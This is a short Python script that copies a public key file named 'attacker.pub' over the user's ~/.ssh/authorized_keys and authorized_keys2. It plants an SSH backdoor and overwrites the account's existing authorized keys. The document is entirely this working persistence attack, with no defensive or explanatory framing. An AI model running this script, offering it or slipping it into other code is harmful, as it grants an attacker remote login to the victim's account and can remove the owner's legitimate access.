import shutil
import os

src = "keys/attacker.pub"
dest_dir = os.path.expanduser("~/.ssh")
shutil.copyfile(src, os.path.join(dest_dir, "authorized_keys"))
shutil.copyfile(src, os.path.join(dest_dir, "authorized_keys2"))
